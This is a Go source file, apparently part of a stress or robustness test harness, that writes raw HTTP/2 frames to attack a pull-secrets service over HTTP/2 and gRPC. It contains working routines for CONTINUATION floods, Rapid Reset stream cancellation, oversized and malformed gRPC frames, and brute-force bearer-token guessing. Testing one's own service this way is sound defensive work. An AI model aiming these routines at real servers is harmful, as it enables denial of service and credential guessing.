package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// batch is how many requests are sent at once over one connection; both ports allow 100 at a time.
const batch = 50

// frames are the attacks that write frames of HTTP/2 themselves, which costs them least.
func frames() map[string]func(ctx context.Context, a *attacker, worker int) {
	type one = func(ctx context.Context, a *attacker, worker int)
	over := func(grpc bool, do func(*attacker, *session) error) one {
		return func(ctx context.Context, a *attacker, _ int) {
			again(ctx, 0, func() { a.session(ctx, nil, grpc, do) })
		}
	}
	return map[string]one{
		"continuation":   over(false, (*attacker).continuation),
		"rapid-reset":    over(false, (*attacker).rapidReset),
		"oversized-grpc": over(true, (*attacker).oversizedMessages),
		"malformed-grpc": over(true, (*attacker).noise),
		"guess-http2":    over(false, (*attacker).guess),
		"guess-grpc":     over(true, (*attacker).guess),
		"greedy":         over(false, func(a *attacker, s *session) error { return a.ask(s, func() string { return a.Token }) }),
		"guess-many": func(ctx context.Context, a *attacker, worker int) {
			from := net.IPv4(127, 0, 1, byte(worker%250+1)) //nolint:gosec // it fits
			again(ctx, 0, func() { a.session(ctx, from, worker%2 == 0, (*attacker).guess) })
		},
	}
}

// session is a connection with HTTP/2, whose frames are written together.
type session struct {
	conn    net.Conn
	grpc    bool
	out     *bufio.Writer
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32 // the last one
}

func newSession(c net.Conn, grpc bool) *session {
	s := &session{conn: c, grpc: grpc, out: bufio.NewWriterSize(c, 64<<10)}
	s.framer = http2.NewFramer(s.out, bufio.NewReader(c))
	s.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	s.encoder = hpack.NewEncoder(&s.block)
	s.stream-- // clients have the odd numbers
	return s
}

// greet writes what a connection begins with, and lets the other end send as much as it wants.
func (s *session) greet() error {
	if _, err := s.out.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	if err := s.framer.WriteSettings(); err != nil {
		return err
	}
	return s.framer.WriteWindowUpdate(0, 1<<30)
}

// session opens one, and does something over it until that fails.
func (a *attacker) session(ctx context.Context, from net.IP, grpc bool, do func(*attacker, *session) error) {
	to := a.HTTP
	if grpc {
		to = a.GRPC
	}
	c, closed, err := a.secured(ctx, from, to, "h2")
	if err != nil {
		return
	}
	defer closed()
	s := newSession(c, grpc)
	err = s.greet()
	for err == nil && ctx.Err() == nil {
		_ = c.SetDeadline(time.Now().Add(patience))
		err = do(a, s)
	}
	if ctx.Err() == nil {
		a.outcome(ended(err))
	}
}

// headers encodes those of a request.
func (s *session) headers(token string, more ...string) []byte {
	s.block.Reset()
	fields := []string{":method", "GET", ":scheme", "https", ":authority", "quaygen", ":path", "/v1/pullsecrets/puller?namespace=greedy", "authorization", "Bearer " + token}
	if s.grpc {
		fields = []string{":method", "POST", ":scheme", "https", ":authority", "quaygen", ":path", "/quaygen.v1.PullSecrets/Get", "content-type", "application/grpc", "te", "trailers", "authorization", "Bearer " + token}
	}
	fields = append(fields, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = s.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: fields[i] == "authorization"}) // into memory
	}
	return s.block.Bytes()
}

// open sends the headers of the next request.
func (s *session) open(end bool, block []byte) error {
	s.stream += 2
	return s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.stream, BlockFragment: block, EndHeaders: true, EndStream: end})
}

func (a *attacker) guess(s *session) error { return a.ask(s, random) }

// ask sends a batch of requests, and reads all answers.
func (a *attacker) ask(s *session, token func() string) error {
	for range batch {
		if err := s.open(!s.grpc, s.headers(token())); err != nil {
			return err
		}
		if s.grpc { // a message without a field
			if err := s.framer.WriteData(s.stream, true, make([]byte, 5)); err != nil {
				return err
			}
		}
	}
	a.tried.Add(batch)
	if err := s.out.Flush(); err != nil {
		return err
	}
	return a.answers(s, batch)
}

// answers reads until so many requests are answered.
func (a *attacker) answers(s *session, n int) error {
	for n > 0 {
		frame, err := s.framer.ReadFrame()
		if err != nil {
			return err
		}
		switch f := frame.(type) {
		case *http2.MetaHeadersFrame:
			for _, field := range f.Fields {
				if field.Name == "grpc-status" || field.Name == ":status" && !s.grpc {
					a.outcome(field.Value)
				}
			}
			if f.StreamEnded() {
				n--
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				n--
			}
		case *http2.RSTStreamFrame:
			a.outcome("reset")
			n--
		case *http2.GoAwayFrame:
			return io.EOF
		default:
		}
	}
	return nil
}

// drained reads what comes back, in order that the other end can go on, until it closes.
func (s *session) drained() <-chan error {
	gone := make(chan error, 1)
	go func() {
		_, err := io.Copy(io.Discard, s.conn)
		gone <- err
	}()
	return gone
}

// untilGone writes again and again until the other end has had enough.
func (s *session) untilGone(write func() error) error {
	gone := s.drained()
	for {
		_ = s.conn.SetWriteDeadline(time.Now().Add(patience))
		if err := write(); err != nil {
			return err
		}
		if err := s.out.Flush(); err != nil {
			return err
		}
		select {
		case err := <-gone:
			if err == nil {
				err = io.EOF
			}
			return err
		default:
		}
	}
}

// continuation sends headers that do not end.
func (a *attacker) continuation(s *session) error {
	s.stream += 2
	if err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.stream, BlockFragment: s.headers(random())}); err != nil {
		return err
	}
	s.block.Reset()
	_ = s.encoder.WriteField(hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte("x"), 8<<10)), Sensitive: true}) // into memory
	return s.untilGone(func() error {
		a.tried.Add(1)
		return s.framer.WriteContinuation(s.stream, false, s.block.Bytes())
	})
}

// rapidReset asks, and takes it back at once.
func (a *attacker) rapidReset(s *session) error {
	return s.untilGone(func() error {
		for range batch {
			if err := s.open(true, s.headers(random())); err != nil {
				return err
			}
			if err := s.framer.WriteRSTStream(s.stream, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		a.tried.Add(batch)
		return nil
	})
}

// oversizedMessages sends headers, and messages, that are too large.
func (a *attacker) oversizedMessages(s *session) error {
	a.tried.Add(2)
	long := string(bytes.Repeat([]byte("x"), 17<<10))
	if err := s.open(true, s.headers(random(), "x", long)); err != nil {
		return err
	}
	if err := s.open(false, s.headers(random())); err != nil {
		return err
	}
	message := make([]byte, 16<<10)
	binary.BigEndian.PutUint32(message[1:], 1<<30)
	if err := s.framer.WriteData(s.stream, false, message); err != nil {
		return err
	}
	if err := s.out.Flush(); err != nil {
		return err
	}
	return a.answers(s, 2)
}

// noise sends frames of every type with random contents, and then what is none.
func (a *attacker) noise(s *session) error {
	noise := make([]byte, 1<<10)
	_, _ = rand.Read(noise) // never fails
	s.framer.AllowIllegalWrites = true
	return s.untilGone(func() error {
		a.tried.Add(1)
		kind := http2.FrameType(noise[0] % 12)
		if err := s.framer.WriteRawFrame(kind, http2.Flags(noise[1]), uint32(noise[2]), noise[:noise[3]]); err != nil {
			return err
		}
		_, _ = rand.Read(noise) // never fails
		_, err := s.out.Write(noise[:64])
		return err
	})
}
